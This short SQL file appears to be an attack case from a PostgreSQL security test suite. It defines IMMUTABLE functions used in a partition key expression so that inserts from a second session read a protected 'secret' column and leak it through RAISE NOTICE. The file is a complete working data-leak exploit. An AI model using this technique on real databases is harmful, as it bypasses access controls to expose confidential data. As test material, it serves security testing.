-- Looks twice into a partition whose bound is worked out from a key with the value in it.
-- wants: read
-- attack:
CREATE FUNCTION peek() RETURNS text LANGUAGE plpgsql IMMUTABLE AS $f$
DECLARE found text; BEGIN
  IF current_setting('x.go', true) = 'yes' THEN EXECUTE 'SELECT secret FROM vlt_' || 'account LIMIT 1' INTO found; END IF;
  RETURN coalesce(found, '');
END
$f$;
CREATE FUNCTION tell(what text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN RAISE NOTICE '%', what; RETURN what; END $f$;
CREATE TABLE told (a text) PARTITION BY LIST (tell(a || peek()));
CREATE TABLE told_x PARTITION OF told FOR VALUES IN ('x');
-- session: second
SET x.go = 'yes';
INSERT INTO told_x VALUES ('x');
INSERT INTO told_x VALUES ('x');
